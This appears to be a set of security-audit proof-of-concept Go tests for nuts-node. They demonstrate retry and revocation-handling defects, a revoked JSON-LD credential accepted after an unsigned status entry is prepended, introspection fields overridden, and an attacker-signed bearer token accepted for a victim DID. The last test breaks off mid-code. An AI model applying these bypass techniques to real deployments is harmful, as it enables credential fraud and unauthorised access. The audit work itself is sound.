	present, err := state.IsPayloadPresent(ctx, tx.PayloadHash()) // not counted
	require.NoError(t, err)
	require.True(t, present, "payload received")

	// handleTransactionPayload recorded the completion (privatePayloadReceiver.Finished(ref) returned nil):
	// "Once a subscriber's completion has been recorded it is not called again for that event, also not after a restart"
	// handlePrivateTxRetry (the subscriber) starts with IsPayloadPresent, nothing else in this test calls it through countingState.
	assert.Never(t, func() bool {
		return countingState.calls.Load() > 1
	}, 500*time.Millisecond, 5*time.Millisecond, "the 'private' subscriber was called again after its completion had been recorded (the finished job was written back to the shelf)")
}

// payloadPresentCounter counts the invocations of the 'private' subscriber (handlePrivateTxRetry starts with IsPayloadPresent).
type payloadPresentCounter struct {
	dag.State
	calls atomic.Int64
}

func (c *payloadPresentCounter) IsPayloadPresent(ctx context.Context, h hash.SHA256Hash) (bool, error) {
	c.calls.Add(1)
	return c.State.IsPayloadPresent(ctx, h)
}
