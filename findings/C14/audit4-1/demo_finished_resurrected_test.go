package dag

import (
	"context"
	"path"
	"sync/atomic"
	"testing"
	"time"

	"github.com/nuts-foundation/go-stoabs"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/nuts-foundation/nuts-node/test/io"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Completion of an event is recorded (Notifier.Finished, as network/transport/v2 handleTransactionPayload does from the
// goroutine that handles the peer's response) while a delivery attempt for the same event is still in flight and that
// attempt ends 'incomplete' (or with an error). The property demands: "Once a subscriber's completion has been recorded
// it is not called again for that event, also not after a restart".
func TestDemo_FinishedJobIsResurrectedByInFlightAttempt(t *testing.T) {
	ctx := context.Background()
	transaction, _, _ := CreateTestTransaction(0)
	event := Event{Type: TransactionEventType, Hash: transaction.Ref(), Transaction: transaction}
	kvStore := storage.CreateTestBBoltStore(t, path.Join(io.TestDirectory(t), "test.db"))

	var calls atomic.Int64
	var s *notifier
	receiver := func(e Event) (bool, error) {
		if calls.Add(1) == 1 {
			// While this attempt is in flight, the completion is recorded by another goroutine
			// (v2: the peer answered the TransactionPayloadQuery, handleTransactionPayload stores the payload and calls Finished).
			done := make(chan error)
			go func() { done <- s.Finished(e.Hash) }()
			select {
			case err := <-done:
				if err != nil {
					t.Errorf("Finished: %v", err)
				}
			case <-time.After(5 * time.Second):
				t.Error("Finished timed out")
			}
		}
		// like handlePrivateTxRetry: the query was sent, completion is reported through Finished
		return false, nil
	}
	s = NewNotifier("demo", receiver, WithPersistency(kvStore), WithRetryDelay(5*time.Millisecond)).(*notifier)
	defer s.Close()

	// admission: job is saved in the write TX, notification after commit
	require.NoError(t, kvStore.Write(ctx, func(tx stoabs.WriteTx) error {
		return s.Save(tx, event)
	}))
	s.Notify(event)

	jobExists := func(n *notifier) bool {
		exists := false
		require.NoError(t, kvStore.ReadShelf(ctx, n.shelfName(), func(reader stoabs.Reader) error {
			_, err := reader.Get(stoabs.BytesKey(event.Hash.Slice()))
			exists = err == nil
			return nil
		}))
		return exists
	}

	// Finished returned without error, so the completion is recorded: the job must be gone...
	assert.False(t, jobExists(s), "job is back on the shelf after its completion was recorded")
	s.Close() // 'stop' the node (ends the retry loop of this instance, if any)
	callsBeforeRestart := calls.Load()

	// ... and must stay gone, also after a restart
	var callsAfterRestart atomic.Int64
	restarted := NewNotifier("demo", func(e Event) (bool, error) {
		callsAfterRestart.Add(1)
		return true, nil
	}, WithPersistency(kvStore), WithRetryDelay(5*time.Millisecond)).(*notifier)
	defer restarted.Close()
	require.NoError(t, restarted.Run())

	assert.Equal(t, int64(0), callsAfterRestart.Load(), "subscriber called after restart for an event whose completion was recorded")
	assert.LessOrEqual(t, callsBeforeRestart, int64(1), "subscriber called again after its completion was recorded")
}
