package dag

import (
	"context"
	"errors"
	"path"
	"sync/atomic"
	"testing"
	"time"

	"github.com/nuts-foundation/go-stoabs"
	"github.com/nuts-foundation/go-stoabs/bbolt"
	"github.com/nuts-foundation/nuts-node/test"
	"github.com/nuts-foundation/nuts-node/test/io"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Property C14: "delivery is retried with growing delay until the subscriber reports completion, reports a fatal error,
// or the retry budget is spent, and an undelivered event stays visible as failed rather than vanishing."
//
// notifyNow wraps every error of its own bookkeeping (reading the job from / writing the job to the shelf) in
// retry.Unrecoverable. The store refuses a DB transaction when it cannot obtain its lock in time (1 second in
// production, storage.lockAcquireTimeout), which happens whenever another DB transaction is slow. One such
// refusal during a retry ends the retry loop of the event for good: the subscriber did not complete, did not report a
// fatal error and the budget (20) is not spent, yet it is never called again (until the next restart), and because the
// retry counter stays below the 'failed' threshold the event is not listed as failed either.
func TestDemoC14_3_RetryLoopAbandonedOnBusyDB(t *testing.T) {
	ctx := context.Background()
	testDir := io.TestDirectory(t)
	db, err := bbolt.CreateBBoltStore(path.Join(testDir, "test.db"), stoabs.WithNoSync(), stoabs.WithLockAcquireTimeout(50*time.Millisecond))
	require.NoError(t, err)
	t.Cleanup(func() { _ = db.Close(context.Background()) })

	tx, _, _ := CreateTestTransaction(0)
	event := Event{Type: TransactionEventType, Hash: tx.Ref(), Transaction: tx}

	var calls atomic.Int32
	receiver := func(event Event) (bool, error) {
		switch calls.Add(1) {
		case 1:
			return false, errors.New("temporary problem")
		case 2:
			// Another component keeps the DB busy for a while (longer than the lock acquire timeout),
			// e.g. a large batch of transactions being added.
			locked := make(chan struct{})
			go func() {
				_ = db.Write(ctx, func(_ stoabs.WriteTx) error {
					close(locked)
					time.Sleep(300 * time.Millisecond)
					return nil
				})
			}()
			<-locked
			return false, errors.New("temporary problem")
		default:
			return true, nil // the problem is over, the subscriber can complete the event
		}
	}
	n := NewNotifier("demo", receiver, WithPersistency(db), WithRetryDelay(5*time.Millisecond)).(*notifier)
	defer n.Close()

	// admission: the event is saved, then the subscriber is notified
	require.NoError(t, db.Write(ctx, func(wtx stoabs.WriteTx) error {
		return n.Save(wtx, event)
	}))
	n.Notify(event)

	// the subscriber never reported completion nor a fatal error and used 2 of the 20 attempts: delivery must go on
	delivered := test.WaitForNoFail(t, func() (bool, error) {
		return calls.Load() >= 3, nil
	}, 5*time.Second)

	if !assert.True(t, delivered, "delivery was not retried although the subscriber neither completed nor failed fatally (calls=%d)", calls.Load()) {
		// ...and the undelivered event is not visible as failed
		failed, err := n.GetFailedEvents()
		require.NoError(t, err)
		assert.Len(t, failed, 1, "the undelivered event is not visible as failed")
	}
}
