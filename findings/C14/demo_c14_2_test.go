package dag

import (
	"context"
	"errors"
	"path"
	"sync/atomic"
	"testing"
	"time"

	"github.com/nuts-foundation/go-stoabs"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/nuts-foundation/nuts-node/test/io"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Property C14: "delivery is retried with growing delay until the subscriber reports completion, reports a fatal error,
// or the retry budget is spent".
//
// Notify() honours this: an EventFatal from the receiver is not rescheduled. Run() (replay of the shelf after a restart)
// does not: when the receiver answers the replayed event with EventFatal, Run still hands the event to retry(), whose
// first attempt is made immediately, so the subscriber is called again for an event it just declared fatal.
func TestDemoC14_2_RunRetriesAfterFatal(t *testing.T) {
	ctx := context.Background()
	testDir := io.TestDirectory(t)
	db := storage.CreateTestBBoltStore(t, path.Join(testDir, "test.db"))
	tx, _, _ := CreateTestTransaction(0)
	event := Event{Type: TransactionEventType, Hash: tx.Ref(), Transaction: tx}

	// 1. transaction admitted, event saved in the admission DB transaction, node stops before Notify() (AfterCommit)
	before := NewNotifier("demo", dummyFunc, WithPersistency(db))
	require.NoError(t, db.Write(ctx, func(wtx stoabs.WriteTx) error {
		return before.Save(wtx, event)
	}))
	_ = before.Close()

	// 2. restart: the subscriber reports a fatal error for the replayed event
	var calls atomic.Int32
	after := NewNotifier("demo", func(event Event) (bool, error) {
		calls.Add(1)
		return false, EventFatal{Err: errors.New("this event can never be processed")}
	}, WithPersistency(db), WithRetryDelay(10*time.Millisecond))
	defer after.Close()
	require.NoError(t, after.Run())

	time.Sleep(500 * time.Millisecond) // give a (wrongly) scheduled retry the time to fire

	assert.Equal(t, int32(1), calls.Load(), "subscriber was called again after it reported a fatal error")
	// the event stays visible as failed
	failed, err := after.GetFailedEvents()
	require.NoError(t, err)
	assert.Len(t, failed, 1)
}
