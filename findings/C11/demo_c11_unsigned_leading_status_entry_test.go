package verifier

import (
	"context"
	"crypto"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	ssi "github.com/nuts-foundation/go-did"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/audit"
	nutsCrypto "github.com/nuts-foundation/nuts-node/crypto"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/nuts-foundation/nuts-node/vcr/revocation"
	"github.com/nuts-foundation/nuts-node/vcr/signature"
	"github.com/nuts-foundation/nuts-node/vcr/signature/proof"
	"github.com/nuts-foundation/nuts-node/vcr/types"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// TestDemoC11_RevokedCredentialAcceptedWithUnsignedLeadingStatusEntry shows that the holder of a revoked JSON-LD credential
// can put an extra StatusList2021Entry (that is not covered by the issuer's proof) in front of the real one.
// StatusList2021.Verify stops at the first entry it can't check, the caller treats that as a soft failure,
// and the real entry (whose bit is set) is never looked at: the revoked credential is accepted.
func TestDemoC11_RevokedCredentialAcceptedWithUnsignedLeadingStatusEntry(t *testing.T) {
	issuerDID := did.MustParseDID("did:web:example.com:iam:alice")
	kid := issuerDID.String() + "#key-1"
	auditCtx := audit.TestContext()

	// the issuer's database and signing key
	issuerDB := storage.NewTestStorageEngine(t).GetSQLDatabase()
	storage.AddDIDtoSQLDB(t, issuerDB, issuerDID)
	keyStore := nutsCrypto.NewDatabaseCryptoInstance(issuerDB)
	_, publicKey, err := keyStore.New(auditCtx, nutsCrypto.StringNamingFunc(kid))
	require.NoError(t, err)

	// verifying node: real JSON-LD canonicalization and signature verification, mocked DID/key resolution
	ctx := newMockContext(t)
	ctx.store.EXPECT().GetRevocations(gomock.Any()).Return(nil, ErrNotFound).AnyTimes() // no network revocations
	ctx.didResolver.EXPECT().Resolve(issuerDID, gomock.Any()).Return(nil, nil, nil).AnyTimes()
	ctx.keyResolver.EXPECT().ResolveKeyByID(kid, gomock.Any(), resolver.NutsSigningKeyType).Return(publicKey, nil).AnyTimes()
	documentLoader := ctx.verifier.jsonldManager.DocumentLoader()

	// signs a credential exactly like vcr/issuer.buildJSONLDCredential does
	signJSONLD := func(signCtx context.Context, unsigned vc.VerifiableCredential, keyID string) (*vc.VerifiableCredential, error) {
		asMap := map[string]interface{}{}
		b, _ := json.Marshal(unsigned)
		_ = json.Unmarshal(b, &asMap)
		suite := signature.JSONWebSignature2020{ContextLoader: documentLoader, Signer: keyStore}
		signed, err := proof.NewLDProof(proof.ProofOptions{Created: unsigned.IssuanceDate}).Sign(signCtx, asMap, suite, keyID)
		if err != nil {
			return nil, err
		}
		signedJSON, _ := json.Marshal(signed)
		return vc.ParseVerifiableCredential(string(signedJSON))
	}

	// issuing node: real StatusList2021 issuer on its own database; its lists are served over HTTPS
	var issuerStatusList *revocation.StatusList2021
	ts := httptest.NewTLSServer(http.HandlerFunc(func(writer http.ResponseWriter, request *http.Request) {
		list, err := issuerStatusList.Credential(auditCtx, issuerDID, 1)
		if err != nil {
			writer.WriteHeader(http.StatusInternalServerError)
			return
		}
		data, _ := json.Marshal(list)
		writer.Header().Set("Content-Type", "application/json")
		_, _ = writer.Write(data)
	}))
	defer ts.Close()
	issuerStatusList = revocation.NewStatusList2021(issuerDB, nil, ts.URL)
	issuerStatusList.Sign = signJSONLD
	issuerStatusList.ResolveKey = func(_ did.DID, _ *time.Time, _ resolver.RelationType) (string, crypto.PublicKey, error) {
		return kid, publicKey, nil
	}

	// verifying node: real StatusList2021 verifier on another database, downloads lists from the issuer, checks signatures
	verifierStatusList := revocation.NewStatusList2021(storage.NewTestStorageEngine(t).GetSQLDatabase(), ts.Client(), "https://verifier.example.com")
	verifierStatusList.VerifySignature = ctx.verifier.VerifySignature
	ctx.verifier.credentialStatus = verifierStatusList

	// issue a credential with a status list entry
	entry, err := issuerStatusList.Entry(auditCtx, issuerDID, revocation.StatusPurposeRevocation)
	require.NoError(t, err)
	credentialID := ssi.MustParseURI(issuerDID.String() + "#6f1f7c1c-6c1c-4a28-9d1a-4d8a2a2b1c11")
	issued, err := signJSONLD(auditCtx, vc.VerifiableCredential{
		Context:           []ssi.URI{vc.VCContextV1URI(), revocation.StatusList2021ContextURI},
		ID:                &credentialID,
		Type:              []ssi.URI{vc.VerifiableCredentialTypeV1URI()},
		Issuer:            issuerDID.URI(),
		IssuanceDate:      time.Now().Add(-time.Minute).Truncate(time.Second),
		CredentialSubject: []any{map[string]any{"id": "did:web:example.com:iam:bob"}},
		CredentialStatus:  []any{entry},
	}, kid)
	require.NoError(t, err)

	// the issuer revokes the credential (sets the status list bit and re-signs the list)
	require.NoError(t, issuerStatusList.Revoke(auditCtx, credentialID, *entry))

	// sanity check: the credential as issued is now refused as revoked (signature is checked too)
	require.ErrorIs(t, ctx.verifier.Verify(*issued, true, true, nil), types.ErrRevoked, "sanity check: original credential must be revoked")

	// The holder adds a credentialStatus in front of the real one. Its id is a relative IRI reference, such nodes
	// are dropped when converting JSON-LD to RDF, so it is not part of the signed data and the proof stays valid.
	// Its status list can't be retrieved (could also be: wrong statusPurpose in the list, index out of range, etc).
	unreachable := httptest.NewTLSServer(http.HandlerFunc(func(writer http.ResponseWriter, request *http.Request) {
		writer.WriteHeader(http.StatusNotFound)
	}))
	defer unreachable.Close()
	asMap := map[string]interface{}{}
	issuedJSON, _ := json.Marshal(issued)
	require.NoError(t, json.Unmarshal(issuedJSON, &asMap))
	asMap["credentialStatus"] = []interface{}{
		map[string]interface{}{
			"id":                   "status",
			"type":                 "StatusList2021Entry",
			"statusPurpose":        "revocation",
			"statusListIndex":      "0",
			"statusListCredential": unreachable.URL + "/list",
		},
		asMap["credentialStatus"], // the issuer's entry, untouched
	}
	rewrittenJSON, _ := json.Marshal(asMap)
	rewritten, err := vc.ParseVerifiableCredential(string(rewrittenJSON))
	require.NoError(t, err)
	require.Equal(t, issued.Proof, rewritten.Proof, "proof must be untouched")

	// it is the same signed credential: the issuer's signature verifies
	require.NoError(t, ctx.verifier.VerifySignature(*rewritten, nil), "rewritten credential carries a valid issuer signature")

	// PROPERTY: after the issuer set the status-list bit, every later verification fails as revoked.
	err = ctx.verifier.Verify(*rewritten, true, true, nil)
	assert.ErrorIs(t, err, types.ErrRevoked, "revoked credential was accepted after an unsigned credentialStatus was put in front of the real one")
}
