package discovery

import (
	"context"
	"path"
	"testing"
	"time"

	ssi "github.com/nuts-foundation/go-did"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/jsonld"
	"github.com/nuts-foundation/nuts-node/storage/orm"
	"github.com/nuts-foundation/nuts-node/test/io"
	"github.com/nuts-foundation/nuts-node/vcr/credential"
	"github.com/nuts-foundation/nuts-node/vcr/revocation"
	"github.com/nuts-foundation/nuts-node/vcr/trust"
	"github.com/nuts-foundation/nuts-node/vcr/verifier"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// TestDemo_removeRevoked_realVerifier is Test_defaultClientRegistrationManager_removeRevoked, but with the real
// vcr/verifier instead of a mock that returns a bare types.ErrRevoked: the presentation of a revoked credential is never
// removed from the discovery client's store, and keeps being returned by searches as a validated presentation.
func TestDemo_removeRevoked_realVerifier(t *testing.T) {
	// a well-formed credential (the package's vcAlice has no @context, so it fails validation before the revocation check)
	vcID := did.DIDURL{DID: authorityDID, Fragment: "7ad0d5b5-4b6b-4a39-9ab5-0f0c66a1bd4c"}.URI()
	exp := time.Now().Add(time.Hour)
	revokedVC, err := vc.CreateJWTVerifiableCredential(context.Background(), vc.VerifiableCredential{
		Context:           []ssi.URI{vc.VCContextV1URI()},
		ID:                &vcID,
		Type:              []ssi.URI{ssi.MustParseURI("VerifiableCredential"), ssi.MustParseURI("TestCredential")},
		Issuer:            authorityDID.URI(),
		IssuanceDate:      time.Now().Add(-time.Minute),
		ExpirationDate:    &exp,
		CredentialSubject: []interface{}{map[string]interface{}{"id": aliceDID.String()}},
	}, func(ctx context.Context, claims map[string]interface{}, headers map[string]interface{}) (string, error) {
		return signJWT(authorityDID, claims, headers)
	})
	require.NoError(t, err)
	vp := createPresentation(aliceDID, *revokedVC)

	ctx := newTestContext(t)
	_, err = ctx.store.add(testServiceID, vp, testSeed, 1)
	require.NoError(t, err)
	require.NoError(t, ctx.manager.validate())

	// the real verifier; the issuer's revocation of the credential has been received by this node
	keyResolver := resolver.NewMockKeyResolver(ctx.ctrl)
	keyResolver.EXPECT().ResolveKeyByID(aliceDID.String()+"#0", gomock.Any(), resolver.NutsSigningKeyType).Return(keyPairs[aliceDID.String()].Public(), nil).AnyTimes()
	verifierStore := verifier.NewMockStore(ctx.ctrl)
	verifierStore.EXPECT().GetRevocations(vcID).Return([]*credential.Revocation{{}}, nil).MinTimes(1)
	realVerifier := verifier.NewVerifier(verifierStore, resolver.NewMockDIDResolver(ctx.ctrl), keyResolver, jsonld.NewTestJSONLDManager(t),
		trust.NewConfig(path.Join(io.TestDirectory(t), "trust.yaml")), revocation.NewStatusList2021(orm.NewTestDatabase(t), nil, ""))
	ctx.vcr.EXPECT().Verifier().Return(realVerifier).AnyTimes()

	// sanity check: the presentation does not verify because of the revoked credential, and for no other reason
	_, err = realVerifier.VerifyVP(vp, true, true, nil)
	require.ErrorContains(t, err, "credential is revoked")

	require.NoError(t, ctx.manager.removeRevoked())

	presentations, err := ctx.store.allPresentations(true)
	require.NoError(t, err)
	assert.Empty(t, presentations, "the presentation containing a revoked credential must be removed")
	found, err := ctx.store.search(testServiceID, map[string]string{}, false)
	require.NoError(t, err)
	assert.Empty(t, found, "a presentation containing a revoked credential is still returned by a discovery search")
}
