package verifier

import (
	"encoding/json"
	"errors"
	"testing"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/vcr/credential"
	"github.com/nuts-foundation/nuts-node/vcr/types"
	"github.com/nuts-foundation/nuts-node/vdr"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// demoRevokedVP is the (validly signed) JSON-LD presentation that is also used by TestVerifier_VerifyVP.
const demoRevokedVP = `{
  "@context": [
    "https://www.w3.org/2018/credentials/v1",
    "https://w3c-ccg.github.io/lds-jws2020/contexts/lds-jws2020-v1.json"
  ],
  "proof": {
    "created": "2022-03-07T15:17:05.447901+01:00",
    "jws": "eyJhbGciOiJFUzI1NiIsImI2NCI6ZmFsc2UsImNyaXQiOlsiYjY0Il19..F49ecqz0jSnSQp4gSSOxVVdu7vN58oZv4uSC30DGGOVUeKHjHS5XUNvSr_r-egUCCouygCbzp5f9cMNbGQhNRw",
    "proofPurpose": "assertionMethod",
    "type": "JsonWebSignature2020",
    "verificationMethod": "did:nuts:GvkzxsezHvEc8nGhgz6Xo3jbqkHwswLmWw3CYtCm7hAW#abc-method-1"
  },
  "type": "VerifiablePresentation",
  "verifiableCredential": {
    "@context": [
      "https://www.w3.org/2018/credentials/v1",
      "https://w3c-ccg.github.io/lds-jws2020/contexts/lds-jws2020-v1.json"
    ],
    "credentialSubject": {
      "company": {
        "city": "Hengelo",
        "name": "De beste zorg"
      },
      "id": "did:nuts:GvkzxsezHvEc8nGhgz6Xo3jbqkHwswLmWw3CYtCm7hAW"
    },
    "id": "did:nuts:4tzMaWfpizVKeA8fscC3JTdWBc3asUWWMj5hUFHdWX3H#d2aa8189-db59-4dad-a3e5-60ca54f8fcc0",
    "issuanceDate": "2021-12-24T13:21:29.087205+01:00",
    "issuer": "did:nuts:4tzMaWfpizVKeA8fscC3JTdWBc3asUWWMj5hUFHdWX3H",
    "proof": {
      "created": "2021-12-24T13:21:29.087205+01:00",
      "jws": "eyJhbGciOiJFUzI1NiIsImI2NCI6ZmFsc2UsImNyaXQiOlsiYjY0Il19..hPM2GLc1K9d2D8Sbve004x9SumjLqaXTjWhUhvqWRwxfRWlwfp5gHDUYuRoEjhCXfLt-_u-knChVmK980N3LBw",
      "proofPurpose": "assertionMethod",
      "type": "JsonWebSignature2020",
      "verificationMethod": "did:nuts:GvkzxsezHvEc8nGhgz6Xo3jbqkHwswLmWw3CYtCm7hAW#abc-method-1"
    },
    "type": [
      "CompanyCredential",
      "VerifiableCredential"
    ]
  }
}`

// TestDemo_VerifyVP_RevokedCredentialFailsAsRevoked shows that a presentation containing a revoked credential does not
// fail "as revoked": the error returned by the real verifier.VerifyVP does not match types.ErrRevoked with errors.Is,
// which is exactly how the discovery client (discovery/client.go, removeRevoked) decides to drop revoked presentations.
func TestDemo_VerifyVP_RevokedCredentialFailsAsRevoked(t *testing.T) {
	vp := vc.VerifiablePresentation{}
	require.NoError(t, json.Unmarshal([]byte(demoRevokedVP), &vp))
	vpSignerKeyID := did.MustParseDIDURL(vp.Proof[0].(map[string]interface{})["verificationMethod"].(string))
	revokedCredential := vp.VerifiableCredential[0]

	ctx := newMockContext(t)
	ctx.keyResolver.EXPECT().ResolveKeyByID(vpSignerKeyID.String(), &resolver.ResolveMetadata{}, resolver.NutsSigningKeyType).Return(vdr.TestMethodDIDAPrivateKey().PublicKey, nil)
	// the issuer revoked the credential and this node received the revocation
	ctx.store.EXPECT().GetRevocations(*revokedCredential.ID).Return([]*credential.Revocation{{}}, nil)

	// same call as discovery/client.go removeRevoked(): VerifyVP(vp, true, true, nil)
	_, err := ctx.verifier.VerifyVP(vp, true, true, nil)

	require.Error(t, err, "presentation with a revoked credential must not verify")
	t.Logf("VerifyVP error: %v", err)
	assert.True(t, errors.Is(err, types.ErrRevoked),
		"verification of a presentation with a revoked credential must fail as revoked (errors.Is(err, types.ErrRevoked)), got: %v", err)
}
