package vcr

import (
	"encoding/json"
	"errors"
	"os"
	"path"
	"testing"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/go-stoabs"
	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/nuts-foundation/nuts-node/jsonld"
	"github.com/nuts-foundation/nuts-node/network/dag"
	"github.com/nuts-foundation/nuts-node/storage/orm"
	"github.com/nuts-foundation/nuts-node/test/io"
	"github.com/nuts-foundation/nuts-node/vcr/credential"
	"github.com/nuts-foundation/nuts-node/vcr/revocation"
	"github.com/nuts-foundation/nuts-node/vcr/trust"
	"github.com/nuts-foundation/nuts-node/vcr/types"
	"github.com/nuts-foundation/nuts-node/vcr/verifier"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// TestDemo_RevocationDroppedOnStorageError: a valid, correctly signed revocation of the issuer is received from the
// network while the revocation store is temporarily unavailable (e.g. Redis/BBolt error, reported as stoabs.ErrDatabase).
// The VCR ambassador reports this as dag.EventFatal, so the network never delivers the revocation again (not even after
// a restart): the credential keeps verifying as not revoked on this node forever.
func TestDemo_RevocationDroppedOnStorageError(t *testing.T) {
	payload, err := os.ReadFile("test/ld-revocation.json")
	require.NoError(t, err)
	rawVerificationMethod, err := os.ReadFile("test/revocation-public.json")
	require.NoError(t, err)
	verificationMethod := did.VerificationMethod{}
	require.NoError(t, json.Unmarshal(rawVerificationMethod, &verificationMethod))
	key, err := verificationMethod.PublicKey()
	require.NoError(t, err)
	r := credential.Revocation{}
	require.NoError(t, json.Unmarshal(payload, &r))

	tx, _ := dag.NewTransaction(hash.EmptyHash(), types.RevocationLDDocumentType, nil, nil, 0)
	event := dag.Event{Transaction: tx.(dag.Transaction), Payload: payload}

	// real verifier; its revocation store is down on the first attempt and available again on the second
	ctrl := gomock.NewController(t)
	keyResolver := resolver.NewMockKeyResolver(ctrl)
	keyResolver.EXPECT().ResolveKeyByID(r.Proof.VerificationMethod.String(), gomock.Any(), resolver.NutsSigningKeyType).Return(key, nil).AnyTimes()
	store := verifier.NewMockStore(ctrl)
	gomock.InOrder(
		store.EXPECT().StoreRevocation(r).Return(stoabs.DatabaseError(errors.New("dial tcp 127.0.0.1:6379: connect: connection refused"))),
		store.EXPECT().StoreRevocation(r).Return(nil).AnyTimes(),
	)
	realVerifier := verifier.NewVerifier(store, resolver.NewMockDIDResolver(ctrl), keyResolver, jsonld.NewTestJSONLDManager(t),
		trust.NewConfig(path.Join(io.TestDirectory(t), "trust.yaml")), revocation.NewStatusList2021(orm.NewTestDatabase(t), nil, ""))
	a := NewAmbassador(nil, nil, realVerifier, nil).(*ambassador)

	finished, err := a.handleNetworkRevocations(event)

	require.Error(t, err)
	assert.False(t, finished)
	assert.False(t, errors.As(err, new(dag.EventFatal)),
		"a database error while storing a valid revocation must be retried, but the event is declared fatal (revocation is lost): %v", err)
}
