package iam

// Demonstration for the C02 defect (fixed by "fix: reserve all standard introspection fields"): place in /repo/auth/api/iam and run
//   go test -run TestDemoIntrospectionOverride ./auth/api/iam/
// Before the fix a constraint field id "cnf" (credential-derived claim) replaces the DPoP key binding in the response JSON.

import (
	"context"
	"encoding/json"
	"net/http"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

func TestDemoIntrospectionOverride(t *testing.T) {
	ctx := newTestClient(t)
	req := http.Request{Header: map[string][]string{"Content-Type": {"application/x-www-form-urlencoded"}}}
	reqCtx := context.WithValue(context.Background(), httpRequestContextKey{}, &req)
	for _, name := range []string{"cnf", "aud", "vps", "presentation_definitions", "presentation_submissions"} {
		token := AccessToken{
			Expiration:                     time.Now().Add(time.Minute),
			InputDescriptorConstraintIdMap: map[string]any{name: "attacker-chosen"},
		}
		require.NoError(t, ctx.client.accessTokenServerStore().Put("token", token))
		res, err := ctx.client.IntrospectAccessToken(reqCtx, IntrospectAccessTokenRequestObject{Body: &TokenIntrospectionRequest{Token: "token"}})
		if err != nil {
			continue // refused: fine
		}
		data, merr := json.Marshal(res)
		require.NoError(t, merr)
		var m map[string]any
		require.NoError(t, json.Unmarshal(data, &m))
		require.NotEqual(t, "attacker-chosen", m[name], "credential-derived claim overrides standard field %s", name)
	}
}
