package oauth

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"encoding/json"
	"testing"
	"time"

	"github.com/lestrrat-go/jwx/v2/jwa"
	"github.com/lestrrat-go/jwx/v2/jws"
	"github.com/lestrrat-go/jwx/v2/jwt"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/auth/services"
	"github.com/nuts-foundation/nuts-node/jsonld"
	"github.com/nuts-foundation/nuts-node/vcr"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// TestDemoC02_V1_BearerTokenSignedByOtherDID shows that the (v1, RFC003) token endpoint issues an access token that names
// organization B (requesterDID, which holds a trusted NutsOrganizationCredential) as the client, for a JWT bearer token that
// was signed by a key of a completely unrelated DID (the attacker's). validateIssuer() documents "the signing key (KID)
// must be present as assertionMethod in the issuer's DID", but resolves the key through the DID in the kid header and never
// compares that DID with the iss claim.
func TestDemoC02_V1_BearerTokenSignedByOtherDID(t *testing.T) {
	attackerDID := did.MustParseDID("did:nuts:EvilHs2AUHbFF1xLLK4eZjgErEcMXHxs68FteY7NDtCY")
	attackerKeyID := attackerDID.String() + "#key-1"
	attackerKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	require.NotEqual(t, requesterDID.String(), attackerDID.String())

	testCtx := createContext(t)
	// The attacker's DID document is a regular document on the network, so his key resolves.
	testCtx.keyResolver.EXPECT().ResolveKeyByID(attackerKeyID, gomock.Any(), resolver.NutsSigningKeyType).Return(attackerKey.Public(), nil).AnyTimes()
	// The victim (requesterDID) has a trusted organization credential. The attacker has none.
	organizationCredential := vc.VerifiableCredential{}
	require.NoError(t, json.Unmarshal([]byte(jsonld.TestOrganizationCredential), &organizationCredential))
	testCtx.nameResolver.EXPECT().Search(context.Background(), []vcr.SearchTerm{
		{IRIPath: jsonld.CredentialSubjectPath, Value: requesterDID.String()},
		{IRIPath: jsonld.OrganizationNamePath, Type: vcr.NotNil},
		{IRIPath: jsonld.OrganizationCityPath, Type: vcr.NotNil},
	}, false, gomock.Any()).Return([]vc.VerifiableCredential{organizationCredential}, nil).AnyTimes()
	// the authorizer is a DID of this node, which offers the service
	testCtx.keyResolver.EXPECT().ResolveKey(authorizerDID, gomock.Any(), resolver.NutsSigningKeyType).Return(authorizerSigningKeyID, authorizerSigningKey.Public(), nil).AnyTimes()
	testCtx.keyStore.EXPECT().Exists(gomock.Any(), authorizerSigningKeyID).Return(true, nil).AnyTimes()
	testCtx.serviceResolver.EXPECT().GetCompoundServiceEndpoint(authorizerDID, expectedService, services.OAuthEndpointType, true).Return(expectedAudience, nil).AnyTimes()
	var issuedClaims map[string]interface{}
	testCtx.keyStore.EXPECT().SignJWT(gomock.Any(), gomock.Any(), nil, authorizerSigningKeyID).DoAndReturn(
		func(_ context.Context, claims map[string]interface{}, _ map[string]interface{}, _ string) (string, error) {
			issuedClaims = claims
			return "access-token", nil
		}).AnyTimes()

	// The attacker's bearer token: iss = the victim, signed with (and kid of) the attacker's own key
	token := jwt.New()
	for k, v := range map[string]interface{}{
		jwt.IssuerKey:     requesterDID.String(),
